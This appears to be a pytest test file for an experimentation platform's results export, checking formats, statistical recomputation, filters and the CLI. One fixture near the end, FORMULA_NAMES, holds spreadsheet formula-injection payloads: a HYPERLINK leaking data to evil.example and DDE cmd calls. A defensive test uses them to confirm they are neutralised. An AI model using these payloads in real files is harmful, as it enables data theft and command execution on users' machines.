"""Exports: each format reads back (pandas) with the documented columns, every result can be
recomputed from the exported sufficient statistics, filters and the CLI work; CSV cells cannot
carry spreadsheet formulas."""

import csv
import importlib
import io
import json
import re
from datetime import timedelta
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow.parquet as pq
import pytest
from django.core.management import CommandError, call_command
from django.utils import timezone
from scipy import stats
from statsmodels.stats.multitest import multipletests

from analysis import export_writers, exports
from analysis.export_writers import export_stream
from analysis.exports import COLUMNS, columns, export_filter_build
from analysis.models import ResultRow, ResultSnapshot
from analysis.selectors import snapshot_json
from analysis.services import analysis_run
from assignments.services import events_ingest
from core.errors import DomainError
from experiments.models import Experiment, Metric
from experiments.services import experiment_conclude, metric_create
from stats import AnalysisConfig, SampleStats, analyze_metric
from tests.factories import running_experiment

pytestmark = pytest.mark.django_db

DOCS = Path(__file__).resolve().parents[2] / "docs" / "exports.md"
STAT_FIELDS = [
    "n",
    "sum",
    "sum_sq",
    "den_sum",
    "den_sum_sq",
    "sum_prod",
    "cov_sum",
    "cov_sum_sq",
    "cov_sum_prod",
]


def ensure_metrics(project) -> None:
    for key, kind, event in (
        ("purchase", "binomial", "purchase"),
        ("revenue", "mean", "purchase"),
        ("errors", "count", "checkout_error"),
    ):
        if not Metric.objects.filter(project=project, key=key).exists():
            direction = "decrease" if key == "errors" else "increase"
            metric_create(
                project=project,
                key=key,
                name=key.capitalize(),
                kind=kind,
                event_name=event,
                direction=direction,
            )


def add_traffic(experiment: Experiment, *, units: int, batch: int, lift: float, seed: int) -> None:
    """Exposures split evenly over the variants and purchases/errors after them, through the
    ingestion service; every non-control variant converts ``lift`` better."""
    rng = np.random.default_rng(seed)
    start = experiment.phase_started_at
    keys = list(experiment.variants.values_list("key", flat=True))
    events = []
    for i in range(units):
        unit = f"{experiment.key}-{batch}-{i}"
        variant = keys[i % len(keys)]
        ts = start + timedelta(hours=1 + batch * 5 + float(rng.uniform(0, 4)))
        events.append(_event(unit, ts, type="exposure", experiment=experiment.key, variant=variant))
        rate = 0.10 * (1 if variant == "control" else 1 + lift)
        if rng.random() < rate:
            value = round(float(rng.lognormal(3, 0.4)), 2)
            events.append(_event(unit, ts + timedelta(minutes=30), name="purchase", value=value))
        if rng.random() < 0.2:
            events.append(_event(unit, ts + timedelta(minutes=5), name="checkout_error", value=1))
    result = events_ingest(project=experiment.project, events=events)
    assert not result.rejected, result.rejected


def _event(unit: str, ts, **fields) -> dict:
    kind = fields.pop("type", "metric")
    return {
        "event_id": f"{kind}-{unit}-{fields.get('name', '')}",
        "type": kind,
        "unit_id": unit,
        "timestamp": ts.isoformat(),
        **fields,
    }


def seed_results(
    project,
    key: str = "checkout-v2",
    *,
    looks: int = 2,
    units: int = 300,
    lift: float = 0.8,
    seed: int = 1,
    **overrides,
) -> Experiment:
    """A running experiment with a primary, a guardrail and a secondary metric, traffic added
    in ``looks`` batches and one snapshot computed after each: a snapshot history."""
    ensure_metrics(project)
    overrides.setdefault(
        "metrics",
        [
            {"metric": "purchase", "role": "primary"},
            {"metric": "errors", "role": "guardrail", "non_inferiority_margin": 0.2},
            {"metric": "revenue", "role": "secondary"},
        ],
    )
    experiment = running_experiment(project, key, **overrides)
    start = timezone.now() - timedelta(days=2)
    Experiment.objects.filter(pk=experiment.pk).update(started_at=start, phase_started_at=start)
    experiment.refresh_from_db()
    for batch in range(looks):
        add_traffic(experiment, units=units, batch=batch, lift=lift, seed=seed + batch)
        analysis_run(experiment_id=experiment.pk)
    return experiment


def read(fmt: str, data: bytes) -> pd.DataFrame:
    if fmt == "csv":
        return pd.read_csv(io.BytesIO(data))
    if fmt == "json":
        return pd.DataFrame(json.loads(data)["rows"])
    return pd.read_parquet(io.BytesIO(data))


def export_bytes(project, fmt: str, **filters) -> bytes:
    return b"".join(export_stream(export_filter_build(project=project, **filters), fmt))


def _stats(row) -> SampleStats:
    return SampleStats(**{f: int(row[f]) if f == "n" else float(row[f]) for f in STAT_FIELDS})


def _none(x):
    return None if x is None or (isinstance(x, float) and np.isnan(x)) else x


@pytest.fixture
def history(project):
    return seed_results(project)


@pytest.mark.parametrize("fmt", ["csv", "json", "parquet"])
def test_each_format_reads_back_with_one_row_per_snapshot_metric_variant(project, history, fmt):
    """Every format has the documented columns, one row per (experiment, snapshot, metric,
    variant) and the numbers of the results API."""
    frame = read(fmt, export_bytes(project, fmt))
    assert list(frame.columns) == [c.name for c in columns()]
    snapshots = list(ResultSnapshot.objects.filter(experiment=history).order_by("computed_at"))
    assert len(snapshots) == 2
    assert len(frame) == 2 * 3 * 2  # snapshots x metrics x variants
    keys = frame[["experiment", "snapshot_id", "metric", "variant"]]
    assert not keys.duplicated().any()
    assert list(frame.snapshot_id.drop_duplicates()) == [s.pk for s in snapshots]

    latest = snapshot_json(snapshots[-1])
    rows = frame[frame.snapshot_id == snapshots[-1].pk]
    for api_row in latest["metrics"]:
        row = rows[(rows.metric == api_row["metric"]) & (rows.variant == api_row["variant"])]
        assert len(row) == 1
        row = row.iloc[0]
        assert row.n == api_row["variant_n"] and row.control_n == api_row["control_n"]
        for name in ("lift_abs", "lift_rel", "ci_low", "ci_high", "p_value", "fixed_p_value"):
            assert _none(row[name]) == pytest.approx(api_row[name], rel=1e-12), name
        assert row.status == api_row["status"]
        assert row.recommendation == latest["recommendation"]["action"]
        assert row.role == api_row["role"]


def test_parquet_keeps_the_documented_types(project, history):
    table = pq.read_table(io.BytesIO(export_bytes(project, "parquet")))
    types = {f.name: str(f.type) for f in table.schema}
    expected = {
        "string": "string",
        "int": "int64",
        "float": "double",
        "bool": "bool",
        "timestamp": "timestamp[us, tz=UTC]",
        "floats": "list<element: double>",
        "json": "extension<arrow.json>",
    }
    for column in COLUMNS:
        assert types[column.name] == expected[column.type], column.name


RECOMPUTED = (
    "lift_abs",
    "lift_rel",
    "ci_low",
    "ci_high",
    "ci_abs_low",
    "ci_abs_high",
    "p_value",
    "fixed_p_value",
    "fixed_ci_low",
    "fixed_ci_high",
    "cs_ci_low",
    "cs_ci_high",
    "cs_p_value",
    "chance_to_win",
    "credible_low",
    "credible_high",
    "boundary_z",
    "information_fraction",
)


def _as_json(value):
    """A list column as read back: JSON text (CSV), a list (JSON) or an array (Parquet)."""
    if isinstance(value, str):
        return json.loads(value)
    return None if value is None else list(value)


def expected_design(frame: pd.DataFrame) -> dict[tuple, dict]:
    """How each treatment row's comparison must have been set up, derived from the experiment's
    definition (alpha, policy, planned sample, variant weights, metric roles and margins) by the
    rules of docs/statistics.md section 12 and docs/exports.md, and from the earlier snapshots'
    ``looks``: never from the design columns the export echoes from ``details``.

    - improvement (primary, superiority): one-sided alpha / (2 P K), harm (alpha - 0.001) /
      ((P + G) K), non-inferiority (guardrails; primaries under do_no_harm) at alpha;
    - secondaries: both sides at half the Benjamini-Hochberg false-coverage level alpha R / m;
    - a pair's planned units: round(planned (w_c + w_t) / sum(w)); tuning_n that, else 5000;
    - margin: the configured margin or 0 where judged (guardrails, primaries under do_no_harm);
    - previous looks (what the group-sequential analysis counted): this arm's ``looks`` in the
      phase's previous snapshot, plus this snapshot's information fraction when it is a look.
    """
    out: dict[tuple, dict] = {}
    for (project_slug, key), exp_frame in frame.groupby(["project", "experiment"]):
        experiment = Experiment.objects.get(project__slug=project_slug, key=key)
        alpha = experiment.alpha
        weights = {v.key: v.weight for v in experiment.variants.all()}
        control = experiment.variants.get(is_control=True).key
        definitions = {
            em.metric.key: em for em in experiment.experiment_metrics.select_related("metric")
        }
        roles = [em.role for em in definitions.values()]
        n_primary, n_guard = roles.count("primary"), roles.count("guardrail")
        n_arms = len(weights) - 1
        harm = (alpha - 0.001) / ((n_primary + n_guard) * n_arms)
        do_no_harm = experiment.decision_policy == "do_no_harm"
        snapshots = exp_frame.drop_duplicates("snapshot_id").sort_values("data_through")
        for _, snap in snapshots.iterrows():
            rows = exp_frame[exp_frame.snapshot_id == snap.snapshot_id]
            earlier = snapshots[
                (snapshots.phase == snap.phase) & (snapshots.data_through < snap.data_through)
            ]
            previous_rows = (
                exp_frame[exp_frame.snapshot_id == earlier.iloc[-1].snapshot_id]
                if len(earlier)
                else exp_frame.iloc[0:0]
            )
            treated = rows[~rows.is_control.astype(bool)]
            secondary = treated[(treated.role == "secondary") & treated.error.isna()]
            fcr = alpha
            if len(secondary):
                adjusted = multipletests(secondary.p_value.tolist(), method="fdr_bh")[1]
                assert secondary.adjusted_p_value.tolist() == pytest.approx(list(adjusted))
                rejected = int((adjusted < alpha).sum())
                fcr = alpha * max(rejected, 1) / len(secondary)
            for _, row in treated.iterrows():
                em = definitions[row.metric]
                configured = em.non_inferiority_margin
                planned = None
                if experiment.planned_sample_size:
                    share = (weights[control] + weights[row.variant]) / sum(weights.values())
                    planned = round(experiment.planned_sample_size * share)
                previous = previous_rows[previous_rows.variant == row.variant].looks
                looks = (
                    [float(x) for x in _as_json(_none(previous.iloc[0])) or []]
                    if len(previous)
                    else []
                )
                if planned is None:
                    looks = []  # no plan: the confidence sequence decides, no looks
                elif snap.look_kind in ("look", "final"):
                    # this look counts too: the pair's units (the binomial metric counts every
                    # exposed unit) over its planned units, stored to 6 decimals
                    units = rows.groupby("variant").n.max()
                    now = round((units[control] + units[row.variant]) / planned, 6)
                    if not looks or (looks[-1] < 1.0 and now > looks[-1]):
                        looks = [*looks, now]
                if em.role == "guardrail":
                    good, bad, margin, level = alpha, harm, configured or 0.0, 2 * harm
                elif em.role == "primary" and do_no_harm:
                    good, bad, margin, level = alpha, harm, configured or 0.0, min(2 * alpha, 0.999)
                elif em.role == "primary":
                    good = alpha / (2 * n_primary * n_arms)
                    bad, margin, level = harm, None, 2 * good
                else:
                    good = bad = fcr / 2
                    margin, level = None, fcr
                out[(row.snapshot_id, row.metric, row.variant)] = {
                    "alpha": level,
                    "alpha_good": good,
                    "alpha_bad": bad,
                    "margin": margin,
                    "tuning_n": planned or 5000,
                    "planned_n": planned,
                    "previous_looks": looks,
                }
    return out


def assert_recomputes(frame: pd.DataFrame) -> int:
    """Derive each treatment row's design from the experiment definition (``expected_design``),
    check the exported design columns against it, then feed the statistics engine that design
    and the exported sufficient statistics of the (control, treatment) pair and compare every
    number it reports with the exported one (secondaries: p-values at the experiment's alpha,
    intervals at their false-coverage-rate level, as docs/exports.md says)."""
    designs = expected_design(frame)
    checked = 0
    for _, group in frame.groupby(["snapshot_id", "metric"]):
        control = group[group.is_control.astype(bool)].iloc[0]
        for _, row in group[~group.is_control.astype(bool)].iterrows():
            design = designs[(row.snapshot_id, row.metric, row.variant)]
            exported = {
                "alpha": float(row.alpha),
                "alpha_good": _none(row.alpha_good),
                "alpha_bad": _none(row.alpha_bad),
                "margin": _none(row.margin),
                "tuning_n": int(row.tuning_n),
                "planned_n": None if pd.isna(row.planned_n) else int(row.planned_n),
                "previous_looks": [float(x) for x in _as_json(_none(row.previous_looks)) or []],
            }
            for name, value in design.items():
                if value is None:
                    assert exported[name] is None, name
                else:
                    assert exported[name] == pytest.approx(value, rel=1e-12), name

            def analyze(alpha: float, own_levels: bool, row=row, control=control, design=design):
                config = AnalysisConfig(
                    kind=row.metric_kind,
                    alpha=alpha,
                    method=row.method,
                    tuning_n=design["tuning_n"],
                    planned_n=design["planned_n"],
                    previous_fractions=tuple(design["previous_looks"]),
                    cuped=bool(row.cuped),
                    margin=design["margin"],
                    direction=row.direction,
                    alpha_good=design["alpha_good"] if own_levels else None,
                    alpha_bad=design["alpha_bad"] if own_levels else None,
                )
                return analyze_metric(_stats(control), _stats(row), config)

            result = analyze(design["alpha"], True)
            tested = result
            if row.role == "secondary":
                tested = analyze(float(row.experiment_alpha), False)
            for name in RECOMPUTED:
                source = tested if name.endswith("p_value") else result
                expected = _none(row[name])
                if expected is None:
                    assert getattr(source, name) is None, name
                else:
                    assert getattr(source, name) == pytest.approx(expected, rel=1e-9), name
            significant = tested.significant
            if row.role == "secondary":
                significant = bool(row.adjusted_p_value < row.experiment_alpha)
            assert bool(row.significant) == significant
            assert bool(row.improved) == (significant and tested.improved)
            assert bool(row.harmed) == (significant and tested.harmed)
            assert result.non_inferior == _none(row.non_inferior), "non_inferior"
            checked += 1
    return checked


@pytest.mark.parametrize("fmt", ["csv", "json", "parquet"])
def test_results_recompute_from_the_exported_sufficient_statistics(project, history, fmt):
    """Every treatment row recomputes from the export alone; the binomial primary is also
    checked by hand (Welch, delta method on the relative lift, as docs/statistics.md states)."""
    frame = read(fmt, export_bytes(project, fmt))
    assert assert_recomputes(frame) == 2 * 3

    latest = frame[frame.snapshot_id == frame.snapshot_id.max()]
    purchase = latest[latest.metric == "purchase"]
    c = purchase[purchase.is_control.astype(bool)].iloc[0]
    t = purchase[~purchase.is_control.astype(bool)].iloc[0]
    pc, pt = c["sum"] / c.n, t["sum"] / t.n
    vc, vt = pc * (1 - pc), pt * (1 - pt)
    assert c["sum_sq"] == c["sum"]  # 0/1 values
    rel = pt / pc - 1
    # p-values are those of the Welch test on the absolute difference (docs/statistics.md).
    se = np.sqrt(vt / t.n + vc / c.n)
    dof = (vc / c.n + vt / t.n) ** 2 / ((vc / c.n) ** 2 / (c.n - 1) + (vt / t.n) ** 2 / (t.n - 1))
    assert t.lift_rel == pytest.approx(rel, rel=1e-9)
    assert t.fixed_p_value == pytest.approx(2 * stats.t.sf(abs((pt - pc) / se), dof), rel=1e-6)


@pytest.mark.parametrize("fmt", ["json", "parquet"])
def test_group_sequential_multi_arm_results_recompute_from_the_export(project, fmt):
    """With a planned sample, three arms and "do no harm", the export also carries each pair's
    planned size, the earlier looks and the margins the analysis used."""
    seed_results(
        project,
        "three-arms",
        looks=3,
        units=240,
        planned_sample_size=1500,
        decision_policy="do_no_harm",
        variants=[
            {"key": "control", "weight": 0.34, "is_control": True},
            {"key": "one-page", "weight": 0.33},
            {"key": "express", "weight": 0.33},
        ],
    )
    frame = read(fmt, export_bytes(project, fmt))
    treated = frame[~frame.is_control.astype(bool)]
    assert set(treated.method) == {"group_sequential"}
    assert set(treated.planned_n) == {round(1500 * 0.67)}
    looks = [json.loads(x) if isinstance(x, str) else x for x in treated.previous_looks]
    assert any(len(x) >= 1 for x in looks), "later snapshots count earlier looks"
    primary = treated[treated.role == "primary"]
    assert (primary.margin == 0.0).all()  # do no harm: primaries judged on non-inferiority
    assert assert_recomputes(frame) == 3 * 3 * 2


def test_control_rows_carry_statistics_but_no_comparison(project, history):
    frame = read("json", export_bytes(project, "json"))
    control = frame[frame.is_control]
    assert (control.n > 0).all()
    assert control.lift_rel.isna().all() and control.p_value.isna().all()
    assert control.improved.isna().all() and control.arm_recommendation.isna().all()
    assert (control["mean"] == control["sum"] / control.n).all()


def _control_cells(fmt: str, data: bytes) -> list[dict]:
    """The control rows as each format's own reader gives them (no pandas coercion)."""
    if fmt == "csv":
        rows = list(csv.DictReader(io.StringIO(data.decode())))
        return [r for r in rows if r["is_control"] == "true"]
    if fmt == "json":
        return [r for r in json.loads(data)["rows"] if r["is_control"]]
    return [r for r in pq.read_table(io.BytesIO(data)).to_pylist() if r["is_control"]]


@pytest.mark.parametrize("fmt", ["csv", "json", "parquet"])
def test_control_rows_are_null_in_every_comparison_column(project, history, fmt):
    """Every treatment-only column is null on a control row: an empty cell in CSV, null in
    JSON and Parquet; never 0, "", false or NaN (the stored control row has method "",
    status "" and significant false)."""
    rows = _control_cells(fmt, export_bytes(project, fmt))
    assert len(rows) == 2 * 3
    for row in rows:
        for name in exports.TREATMENT_ONLY:
            if fmt == "csv":
                assert row[name] == "", name
            else:
                assert row[name] is None, name
        assert row["n"] not in (None, "")  # statistics stay
    treated = pd.DataFrame(json.loads(export_bytes(project, "json"))["rows"])
    treated = treated[~treated.is_control]
    assert treated.method.notna().all() and treated.status.notna().all()
    assert treated.significant.notna().all() and treated.p_value.notna().all()


@pytest.mark.parametrize("fmt", ["csv", "json", "parquet"])
def test_list_columns_are_structured_in_json_and_parquet(project, fmt):
    """``looks`` and ``previous_looks`` are lists of floats: a JSON array, a Parquet
    list<double>, JSON text in a CSV cell; ``details`` is a JSON object in JSON."""
    seed_results(project, "gs", looks=2, units=240, planned_sample_size=1500)
    data = export_bytes(project, fmt)
    if fmt == "parquet":
        rows = pq.read_table(io.BytesIO(data)).to_pylist()
    elif fmt == "json":
        rows = json.loads(data)["rows"]
    else:
        rows = list(csv.DictReader(io.StringIO(data.decode())))
    treated = [r for r in rows if r["is_control"] in (False, "false")]
    last = max(r["snapshot_id"] for r in rows) if fmt != "csv" else None
    for row in treated:
        for name in ("looks", "previous_looks"):
            value = row[name]
            if fmt == "csv":
                value = json.loads(value)
            assert isinstance(value, list) and all(isinstance(x, float) for x in value), name
        if fmt == "json":
            assert isinstance(row["details"], dict)
        if fmt == "parquet":
            assert isinstance(json.loads(row["details"]), dict)
    if last is not None:
        latest = [r for r in treated if r["snapshot_id"] == last]
        assert any(len(r["looks"]) == 2 for r in latest)


def test_history_looks_keeps_one_row_per_counted_look(project):
    """``history="looks"``: only the snapshots that were a counted look or the final analysis,
    numbered within their phase by data cut-off, with their stored statistics unchanged."""
    experiment = seed_results(project, "gs", looks=3, units=200, planned_sample_size=1500)
    snapshots = list(experiment.snapshots.order_by("data_through"))
    # The first snapshot did not count (stored as collecting); the last is the final analysis.
    for snapshot, kind in zip(snapshots, ("collecting", "look", "final"), strict=True):
        ResultSnapshot.objects.filter(pk=snapshot.pk).update(look_kind=kind)
    every = pd.DataFrame(json.loads(export_bytes(project, "json"))["rows"])
    assert set(every.snapshot_id) == {s.pk for s in snapshots}
    numbers = every.drop_duplicates("snapshot_id").set_index("snapshot_id").look_number
    assert _none(numbers[snapshots[0].pk]) is None
    assert (numbers[snapshots[1].pk], numbers[snapshots[2].pk]) == (1, 2)
    for fmt in ("csv", "json", "parquet"):
        frame = read(fmt, export_bytes(project, fmt, history="looks"))
        assert list(frame.columns) == [c.name for c in columns()]
        assert len(frame) == 2 * 3 * 2  # counted looks x metrics x variants
        assert list(frame.snapshot_id.drop_duplicates()) == [snapshots[1].pk, snapshots[2].pk]
        assert list(frame.drop_duplicates("snapshot_id").look_number) == [1, 2]
        assert list(frame.drop_duplicates("snapshot_id").look_kind) == ["look", "final"]
        treated = frame[~frame.is_control.astype(bool)]
        assert set(treated.method) == {"group_sequential"}
        assert treated.information_fraction.notna().all()
        stored = {
            (r.snapshot_id, r.metric_key, r.variant): r
            for r in ResultRow.objects.filter(snapshot__in=snapshots[1:])
        }
        for row in frame.itertuples():
            kept = stored[(row.snapshot_id, row.metric, row.variant)]
            assert row.n == kept.n and row.sum == pytest.approx(kept.sum, rel=1e-15)
            assert _none(row.p_value) == (None if row.is_control else kept.p_value)
        assert pd.to_datetime(frame.data_through).is_monotonic_increasing
    # A since filter does not renumber the looks.
    later = json.loads(
        export_bytes(project, "json", history="looks", since=snapshots[2].data_through.isoformat())
    )["rows"]
    assert {r["look_number"] for r in later} == {2}
    with pytest.raises(DomainError, match="Unknown history 'some'"):
        export_filter_build(project=project, history="some")


def test_alpha_is_bonferroni_divided_for_primaries_only(project):
    ensure_metrics(project)
    seed_results(
        project,
        looks=1,
        units=80,
        metrics=[
            {"metric": "purchase", "role": "primary"},
            {"metric": "revenue", "role": "primary"},
            {"metric": "errors", "role": "secondary"},
        ],
    )
    frame = read("json", export_bytes(project, "json"))
    treated = frame[~frame.is_control]
    assert treated[treated.role == "primary"].alpha.tolist() == pytest.approx([0.025, 0.025])
    assert treated[treated.role == "secondary"].alpha.tolist() == pytest.approx([0.05])


def test_filters_by_experiment_status_date_and_latest(project):
    first = seed_results(project, "first", looks=2, units=60)
    second = seed_results(project, "second", looks=1, units=60, seed=9)
    experiment_conclude(experiment=second, decision="control")

    def snapshot_ids(**filters) -> set[int]:
        rows = json.loads(export_bytes(project, "json", **filters))["rows"]
        return {row["snapshot_id"] for row in rows}

    all_ids = set(ResultSnapshot.objects.values_list("pk", flat=True))
    assert snapshot_ids() == all_ids
    first_ids = set(first.snapshots.values_list("pk", flat=True))
    assert snapshot_ids(experiments=["first"]) == first_ids
    assert snapshot_ids(experiments=["first,second"]) == all_ids
    assert snapshot_ids(statuses=["concluded"]) == set(
        second.snapshots.values_list("pk", flat=True)
    )
    latest = {first.snapshots.latest().pk, second.snapshots.latest().pk}
    assert snapshot_ids(latest_only=True) == latest

    tomorrow = (timezone.now() + timedelta(days=1)).date().isoformat()
    today = timezone.now().date().isoformat()
    assert snapshot_ids(since=tomorrow) == set()
    assert snapshot_ids(since=today, until=today) == all_ids  # a date includes its whole day
    # the dates bound the data cut-off: the first look only
    earliest, second_look = first.snapshots.order_by("data_through")[:2]
    assert snapshot_ids(experiments=["first"], until=second_look.data_through.isoformat()) == {
        earliest.pk
    }


def test_empty_export_still_has_the_header_in_every_format(project):
    for fmt in ("csv", "json", "parquet"):
        frame = read(fmt, export_bytes(project, fmt))
        assert len(frame) == 0
        if fmt != "json":  # JSON has no header: {"rows": []}
            assert list(frame.columns) == [c.name for c in columns()]


def test_writers_stream_in_batches(project, history, monkeypatch):
    """Bytes leave in several chunks and Parquet holds one row group per batch."""
    monkeypatch.setattr(export_writers, "BATCH_ROWS", 5)
    flt = export_filter_build(project=project)
    for fmt in ("csv", "json", "parquet"):
        chunks = list(export_stream(flt, fmt))  # 2 snapshots of 6 rows: 2 batches
        assert len(chunks) >= 2, fmt
    parquet = pq.ParquetFile(io.BytesIO(b"".join(export_stream(flt, "parquet"))))
    assert parquet.metadata.num_row_groups == 2
    assert parquet.metadata.num_rows == 12


def test_docs_list_every_column_in_order():
    """docs/exports.md documents exactly the export's columns, in the export's order."""
    text = DOCS.read_text()
    section = text.split("## Columns", 1)[1].split("\n## ", 1)[0]
    documented = re.findall(r"^\| `([a-z_]+)` \| (\w+) \|", section, flags=re.M)
    assert documented == [(c.name, c.type) for c in COLUMNS]


# --- the command line ---------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "json", "parquet"])
def test_cli_writes_each_format_and_reports_progress(project, history, tmp_path, fmt):
    out = tmp_path / f"results.{fmt}"
    err = io.StringIO()
    call_command("export_results", project=project.slug, output=str(out), stderr=err)
    frame = read(fmt, out.read_bytes())
    assert len(frame) == 12
    assert not (tmp_path / f"results.{fmt}.partial").exists()
    log = err.getvalue()
    assert "100% 12/12 rows" in log and f"wrote 12 rows to {out}" in log


def test_cli_filters_and_writes_csv_to_stdout(project, history):
    out, err = io.StringIO(), io.StringIO()
    call_command(
        "export_results",
        "--project",
        project.slug,
        "--experiment",
        history.key,
        "--latest",
        "--no-progress",
        stdout=out,
        stderr=err,
    )
    frame = pd.read_csv(io.StringIO(out.getvalue()))
    assert len(frame) == 6 and frame.snapshot_id.nunique() == 1
    assert err.getvalue() == ""


def test_cli_rejects_bad_input_with_a_message(project, history, tmp_path):
    with pytest.raises(CommandError, match="No project 'nope'"):
        call_command("export_results", project="nope")
    with pytest.raises(CommandError, match="Cannot tell the format"):
        call_command("export_results", project=project.slug, output=str(tmp_path / "x.xlsx"))
    with pytest.raises(CommandError, match="No experiment 'ghost'"):
        call_command("export_results", project=project.slug, experiment=["ghost"])
    with pytest.raises(CommandError, match="not a date"):
        call_command("export_results", project=project.slug, since="last week")
    with pytest.raises(CommandError, match="Unknown status 'live'"):
        call_command("export_results", project=project.slug, status=["live"])
    with pytest.raises(CommandError, match="invalid choice: 'some'"):
        call_command("export_results", "--project", project.slug, "--history", "some")


def test_cli_exports_the_history_of_counted_looks(project, history, tmp_path):
    first, last = history.snapshots.order_by("data_through")
    ResultSnapshot.objects.filter(pk=first.pk).update(look_kind="collecting")
    ResultSnapshot.objects.filter(pk=last.pk).update(look_kind="look")
    out = tmp_path / "looks.parquet"
    call_command(
        "export_results", project=project.slug, history="looks", output=str(out), no_progress=True
    )
    frame = pd.read_parquet(out)
    assert len(frame) == 6 and set(frame.look_kind) != {"collecting"}
    assert set(frame.look_number) == {1}


FORMULA_NAMES = {
    "experiment": '=HYPERLINK("http://evil.example/?leak="&A2,"Open")',
    "purchase": "=cmd|' /C calc'!A0",
    "errors": "@SUM(1+1)*cmd|' /C calc'!A0",
    "revenue": "\t-2+3+cmd|' /C calc'!A0",
}


def test_csv_export_neutralises_formulas_in_names_but_keeps_numbers(project, api):
    """The finding: experiment and metric names like =HYPERLINK(...) or =cmd|' /C calc'!A0 came
    out verbatim in CSV, where a spreadsheet runs them. Text cells that begin with =, +, -, @,
    tab or CR now begin with a single quote; numbers (negative lifts too) are untouched."""
    ensure_metrics(project)
    for key in ("purchase", "errors", "revenue"):
        Metric.objects.filter(project=project, key=key).update(name=FORMULA_NAMES[key])
    seed_results(project, name=FORMULA_NAMES["experiment"], lift=-0.6, looks=1)
    for url in (
        "/api/v1/projects/shop/experiments/checkout-v2/export?format=csv",
        "/api/v1/projects/shop/results/export?format=csv",  # the pages' download button
    ):
        response = api.get(url)
        assert response.status_code == 200, url
        text = b"".join(response.streaming_content).decode()
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        assert rows
        for row in rows:
            assert row["experiment_name"] == "'" + FORMULA_NAMES["experiment"]
            assert row["metric_name"] == "'" + FORMULA_NAMES[row["metric"]]
        kinds = {c.name: c.type for c in columns()}
        for row in rows:
            for name, value in row.items():
                if kinds[name] != "string":
                    assert not value.startswith("'"), (name, value)
                if kinds[name] == "string" and value:
                    assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
        lifts = [float(r["lift_abs"]) for r in rows if r["lift_abs"]]
        assert any(x < 0 for x in lifts)  # a negative number stays a number
        assert all(r["lift_abs"] == "" or not r["lift_abs"].startswith("'") for r in rows)


def test_json_and_parquet_exports_carry_names_unchanged(project):
    ensure_metrics(project)
    Metric.objects.filter(project=project, key="purchase").update(name=FORMULA_NAMES["purchase"])
    seed_results(project, name=FORMULA_NAMES["experiment"], looks=1)
    for fmt in ("json", "parquet"):
        frame = read(fmt, export_bytes(project, fmt))
        assert set(frame["experiment_name"]) == {FORMULA_NAMES["experiment"]}
        assert FORMULA_NAMES["purchase"] in set(frame["metric_name"])


# --- rows stored before the pipeline kept its design -----------------------------------------

DESIGN_KEYS = ("margin", "tuning_n", "planned_n", "previous_fractions", "alpha_good", "alpha_bad")


@pytest.mark.parametrize("policy", ["superiority", "do_no_harm"])
def test_backfill_fills_the_design_of_old_style_rows(project, policy):
    """analysis/migrations/0005: a treatment row stored without its design (no ``alpha``, no
    margin, tuning_n, planned_n, previous_fractions, alpha_good or alpha_bad in ``details``)
    gets what the pipeline stores for a new row, derived from the experiment definition; the
    export then has no nulls there; rows that have their design are left alone."""
    from django.apps import apps

    backfill = importlib.import_module("analysis.migrations.0005_backfill_row_design")
    experiment = seed_results(
        project,
        looks=3,
        units=240,
        planned_sample_size=1500,
        decision_policy=policy,
    )
    treated = ResultRow.objects.filter(snapshot__experiment=experiment, is_control=False)
    stored = {r.pk: (r.alpha, {k: r.details[k] for k in DESIGN_KEYS}) for r in treated}
    assert backfill.backfill_row_design(apps) == 0  # nothing lacks its design

    for row in treated:  # make them old-style
        row.alpha = None
        row.details = {k: v for k, v in row.details.items() if k not in DESIGN_KEYS}
        row.save(update_fields=["alpha", "details"])
    before = read("json", export_bytes(project, "json"))
    before = before[~before.is_control]
    assert before.tuning_n.isna().all() and before.margin.isna().all()

    assert backfill.backfill_row_design(apps) == len(stored)
    for row in ResultRow.objects.filter(pk__in=stored):
        alpha, design = stored[row.pk]
        assert row.alpha == pytest.approx(alpha, rel=1e-12)
        for key, value in design.items():
            if isinstance(value, list):
                assert row.details[key] == pytest.approx(value), key
            elif value is None:
                assert row.details[key] is None, key
            else:
                assert row.details[key] == pytest.approx(value, rel=1e-12), key
    frame = read("json", export_bytes(project, "json"))
    assert frame[~frame.is_control].tuning_n.notna().all()
    assert assert_recomputes(frame) == 3 * 3
